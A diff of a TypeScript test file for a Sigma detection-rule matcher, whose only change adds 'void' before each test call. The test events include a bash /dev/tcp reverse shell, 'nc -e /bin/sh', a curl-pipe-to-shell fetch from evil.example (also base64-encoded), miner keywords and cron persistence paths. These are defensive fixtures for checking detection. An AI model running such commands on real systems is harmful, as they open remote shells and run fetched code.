@@ -48,7 +48,7 @@ const file = (path: string, type = 'creation'): Rec => {
   return { ...e, event: { ...(e['event'] as Rec), type: [type] }, file: { path }, process: { pid: 7, executable: '/usr/bin/vim' } };
 };
 
-test('contains / startswith / endswith are case-insensitive by default, exact unless wildcards', () => {
+void test('contains / startswith / endswith are case-insensitive by default, exact unless wildcards', () => {
   const m = rule('  sel:\n    Image|endswith: /BASH\n    CommandLine|contains: /Dev/TCP/\n  condition: sel\n');
   assert.ok(m(cmd('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '/usr/bin/bash')));
   assert.ok(!m(cmd('bash -i', '/usr/bin/bash')));
@@ -61,13 +61,13 @@ test('contains / startswith / endswith are case-insensitive by default, exact un
   assert.ok(!exact(cmd('nc', '/usr/bin/ncat')));
 });
 
-test('cased makes matching case-sensitive', () => {
+void test('cased makes matching case-sensitive', () => {
   const m = rule('  sel:\n    CommandLine|cased|contains: " -O "\n  condition: sel\n');
   assert.ok(m(cmd('wget -O /tmp/x')));
   assert.ok(!m(cmd('wget -o /tmp/x')));
 });
 
-test('wildcards * and ? with backslash escapes', () => {
+void test('wildcards * and ? with backslash escapes', () => {
   const m = rule('  sel:\n    CommandLine: "chmod ?777 *"\n  condition: sel\n');
   assert.ok(m(cmd('chmod 0777 /tmp/x')));
   assert.ok(m(cmd('CHMOD a777 ')));
@@ -84,7 +84,7 @@ test('wildcards * and ? with backslash escapes', () => {
   assert.ok(dbl(cmd('ls dir\\')));
 });
 
-test('all requires every value; lists are OR otherwise', () => {
+void test('all requires every value; lists are OR otherwise', () => {
   const all = rule("  sel:\n    CommandLine|contains|all: ['curl', '| sh']\n  condition: sel\n");
   assert.ok(all(cmd('curl http://x | sh')));
   assert.ok(!all(cmd('curl http://x')));
@@ -93,7 +93,7 @@ test('all requires every value; lists are OR otherwise', () => {
   assert.ok(!any(cmd('fetch x')));
 });
 
-test('re is case-sensitive; re|i, re|m and re|s set flags; (?i) prefix accepted', () => {
+void test('re is case-sensitive; re|i, re|m and re|s set flags; (?i) prefix accepted', () => {
   const m = rule("  sel:\n    CommandLine|re: '\\s-[FTd]\\s'\n  condition: sel\n");
   assert.ok(m(cmd('curl -T file http://x')));
   assert.ok(!m(cmd('curl -t file http://x')));
@@ -109,7 +109,7 @@ test('re is case-sensitive; re|i, re|m and re|s set flags; (?i) prefix accepted'
   assert.ok(inline(cmd('xABCx')));
 });
 
-test('base64 and base64offset find encoded values at any alignment', () => {
+void test('base64 and base64offset find encoded values at any alignment', () => {
   const secret = 'curl http://evil.example/x | sh';
   const b = rule(`  sel:\n    CommandLine|base64|contains: '${secret}'\n  condition: sel\n`);
   assert.ok(b(cmd(`echo ${Buffer.from(secret).toString('base64')} | base64 -d | bash`)));
@@ -124,13 +124,13 @@ test('base64 and base64offset find encoded values at any alignment', () => {
   assert.ok(wide(cmd(`pwsh -enc ${Buffer.from('xiex(', 'utf16le').toString('base64')}`)));
 });
 
-test('windash matches -, /, and unicode dashes at word starts', () => {
+void test('windash matches -, /, and unicode dashes at word starts', () => {
   const m = rule("  sel:\n    CommandLine|windash|contains: ' -e '\n  condition: sel\n");
   for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(m(cmd(`nc ${d}e /bin/sh`)), d);
   assert.ok(!m(cmd('nc +e /bin/sh')));
 });
 
-test('cidr matches IPv4 and IPv6 networks', () => {
+void test('cidr matches IPv4 and IPv6 networks', () => {
   const m = rule("  sel:\n    DestinationIp|cidr: ['10.0.0.0/8', '192.168.1.0/24', 'fc00::/7', '::1/128']\n  condition: sel\n", 'network_connection');
   assert.ok(m(net({ ip: '10.200.3.4' })));
   assert.ok(m(net({ ip: '192.168.1.77' })));
@@ -143,7 +143,7 @@ test('cidr matches IPv4 and IPv6 networks', () => {
   assert.ok(v4mapped(net({ ip: '::ffff:10.1.2.3' })));
 });
 
-test('exists, null, numbers and numeric comparisons', () => {
+void test('exists, null, numbers and numeric comparisons', () => {
   const ex = rule('  sel:\n    ParentImage|exists: false\n  condition: sel\n');
   assert.ok(ex(cmd('x')));
   assert.ok(!ex(proc({ executable: '/x', parent: { executable: '/sbin/init' } })));
@@ -165,7 +165,7 @@ test('exists, null, numbers and numeric comparisons', () => {
   assert.ok(!gte(proc({ pid: 999 })));
 });
 
-test('fieldref compares two fields of the same event', () => {
+void test('fieldref compares two fields of the same event', () => {
   const m = rule('  sel:\n    Image|fieldref: ParentImage\n  condition: sel\n');
   assert.ok(m(proc({ executable: '/usr/bin/x', parent: { executable: '/USR/BIN/X' } })));
   assert.ok(!m(proc({ executable: '/usr/bin/x', parent: { executable: '/usr/bin/y' } })));
@@ -174,7 +174,7 @@ test('fieldref compares two fields of the same event', () => {
   assert.ok(sw(proc({ executable: '/tmp/a', command_line: '/tmp/a --x' })));
 });
 
-test('keyword searches match anywhere in the event text; |all needs every keyword', () => {
+void test('keyword searches match anywhere in the event text; |all needs every keyword', () => {
   const m = rule("  keywords:\n    - 'xmrig'\n    - 'stratum+tcp://*:3333'\n  condition: keywords\n");
   assert.ok(m(cmd('./XMRig -o pool')));
   assert.ok(m(proc({ executable: '/opt/xmrig/xmrig' })));
@@ -185,7 +185,7 @@ test('keyword searches match anywhere in the event text; |all needs every keywor
   assert.ok(!all(cmd('nc 1.2.3.4 4444')));
 });
 
-test('conditions: and / or / not / 1 of / all of / them', () => {
+void test('conditions: and / or / not / 1 of / all of / them', () => {
   const m = rule(
     "  selection_a:\n    Image|endswith: /curl\n  selection_b:\n    CommandLine|contains: '| sh'\n  filter_main_local:\n    CommandLine|contains: localhost\n  condition: all of selection_* and not 1 of filter_main_*\n",
   );
@@ -201,7 +201,7 @@ test('conditions: and / or / not / 1 of / all of / them', () => {
   assert.ok(list(cmd('', '/b')));
 });
 
-test('process fields: args fall back to command_line; parent, user, cwd, env vars, hashes', () => {
+void test('process fields: args fall back to command_line; parent, user, cwd, env vars, hashes', () => {
   const m = rule("  sel:\n    CommandLine|contains: '-e /bin/sh'\n  condition: sel\n");
   assert.ok(m(proc({ args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] })));
   const p = rule(
@@ -221,7 +221,7 @@ test('process fields: args fall back to command_line; parent, user, cwd, env var
   assert.ok(ecs(proc({ working_directory: '/tmp' })));
 });
 
-test('file and network categories read their own fields; events of another kind never match', () => {
+void test('file and network categories read their own fields; events of another kind never match', () => {
   const f = rule("  sel:\n    TargetFilename|startswith: /etc/cron.d/\n  condition: sel\n", 'file_event');
   assert.ok(f(file('/etc/cron.d/evil')));
   assert.ok(f(file('/etc/cron.d/evil', 'rename')));
@@ -239,7 +239,7 @@ test('file and network categories read their own fields; events of another kind 
   assert.ok(q({ ...skeletonEvent('dns_query'), dns: { question: { name: 'x.onion', type: 'A' } } }));
 });
 
-test('events with missing or odd fields do not match and do not crash', () => {
+void test('events with missing or odd fields do not match and do not crash', () => {
   const any = rule("  sel:\n    Image|endswith: /bash\n  filter:\n    CommandLine|re: 'a'\n  condition: sel and not filter\n");
   const odd: unknown[] = [
     null,
@@ -259,7 +259,7 @@ test('events with missing or odd fields do not match and do not crash', () => {
   assert.ok(any({ event: { dataset: 'yamori.process', type: ['start'] }, process: { executable: '/bin/bash' } }));
 });
 
-test('compile errors name the reason and the line', () => {
+void test('compile errors name the reason and the line', () => {
   const unknown = compileError('  sel:\n    Imagee|endswith: /bash\n  condition: sel\n');
   assert.equal(unknown.reason, 'unknown field Imagee for category process_creation');
   assert.equal(unknown.line, 8);
@@ -286,7 +286,7 @@ test('compile errors name the reason and the line', () => {
   assert.match(compileError('  sel:\n    Image: x\n  condition: sel\n', 'registry_event').reason, /unsupported logsource: category registry_event/);
 });
 
-test('a pack keeps the good rules and reports the bad and duplicate ones', () => {
+void test('a pack keeps the good rules and reports the bad and duplicate ones', () => {
   const good = parseSigmaRule(ruleText('  sel:\n    Image: /x\n  condition: sel\n', 'process_creation'), 'a.yml');
   const dup = parseSigmaRule(ruleText('  sel:\n    Image: /y\n  condition: sel\n', 'process_creation'), 'b.yml');
   const bad = parseSigmaRule(ruleText('  sel:\n    Nope: /y\n  condition: sel\n', 'process_creation').replace('r-1', 'r-2'), 'c.yml');
@@ -302,7 +302,7 @@ test('a pack keeps the good rules and reports the bad and duplicate ones', () =>
   );
 });
 
-test('matches report level, tags, ATT&CK techniques and yamori response actions', () => {
+void test('matches report level, tags, ATT&CK techniques and yamori response actions', () => {
   const text = ruleText(
     '  sel:\n    Image|endswith: /xmrig\n  condition: sel\n',
     'process_creation',
